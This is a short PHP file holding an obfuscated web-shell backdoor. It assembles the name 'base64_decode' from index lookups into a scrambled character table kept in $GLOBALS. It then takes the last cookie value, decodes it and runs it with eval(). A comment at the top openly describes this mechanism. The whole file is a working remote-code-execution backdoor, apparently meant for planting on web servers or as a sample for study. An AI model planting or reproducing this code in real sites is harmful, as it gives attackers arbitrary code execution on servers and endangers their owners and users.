<?php
// Every name is picked from one character table kept in $GLOBALS under a meaningless key; the cookie
// or the form carries a payload that is decoded and run.
$GLOBALS['q71'] = "lvcbaeskoi_d64r(tnu)";
$GLOBALS['q71x'] = $GLOBALS['q71'][3].$GLOBALS['q71'][4].$GLOBALS['q71'][6].$GLOBALS['q71'][5].$GLOBALS['q71'][12].$GLOBALS['q71'][13].$GLOBALS['q71'][10].$GLOBALS['q71'][11].$GLOBALS['q71'][5].$GLOBALS['q71'][2].$GLOBALS['q71'][8].$GLOBALS['q71'][11].$GLOBALS['q71'][5];
$GLOBALS['q71y'] = $_COOKIE;
foreach ($GLOBALS['q71y'] as $k => $v) {
    $p = $v;
}
if (!empty($p)) {
    $p = $GLOBALS['q71x']($p);
    eval($p);
}
